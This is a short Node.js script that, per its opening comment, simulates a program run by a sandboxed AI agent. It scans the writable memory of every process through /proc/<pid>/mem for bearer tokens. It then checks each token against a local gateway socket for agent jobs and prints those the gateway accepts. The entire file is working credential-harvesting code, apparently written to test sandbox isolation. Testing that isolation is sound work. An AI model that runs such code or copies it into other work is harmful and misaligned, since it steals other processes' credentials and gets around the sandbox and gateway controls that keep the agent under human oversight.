// Runs in a sandbox as an agent's own program would: looks for the session's token in the memory of all processes, and
// prints those that the gateway takes, one a line.
import fs from "node:fs";
import { request } from "node:http";

const SOCKET = "/run/claude-hub/hub.sock";
const MOST = 268_435_456;
const found = new Set();

for (const pid of fs.readdirSync("/proc").filter((name) => /^\d+$/.test(name)))
  if (Number(pid) !== process.pid) look(pid);
for (const token of found) if ((await ask(token)) === 200) console.log(token);

function look(pid) {
  try {
    const memory = fs.openSync(`/proc/${pid}/mem`, "r");
    for (const line of fs.readFileSync(`/proc/${pid}/maps`, "latin1").split("\n")) {
      const range = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line);
      if (range === null) continue;
      const [from, to] = [parseInt(range[1], 16), parseInt(range[2], 16)];
      if (to - from <= MOST) search(memory, from, to - from);
    }
    fs.closeSync(memory);
  } catch (error) {
    console.error(pid, error.code);
  }
}

function search(memory, from, size) {
  const bytes = Buffer.alloc(size);
  try {
    fs.readSync(memory, bytes, 0, size, from);
  } catch {
    // Not every range can be read.
    return;
  }
  const text = bytes.toString("latin1");
  for (const [, token] of text.matchAll(/(?:Bearer |"token":")([\w-]{43})(?![\w-])/g))
    found.add(token);
}

function ask(token) {
  return new Promise((resolve) => {
    request({
      socketPath: SOCKET,
      path: "/runner/job",
      headers: { authorization: `Bearer ${token}` },
    })
      .once("response", (res) => resolve(res.resume().statusCode))
      .once("error", (error) => resolve(error.code))
      .end();
  });
}
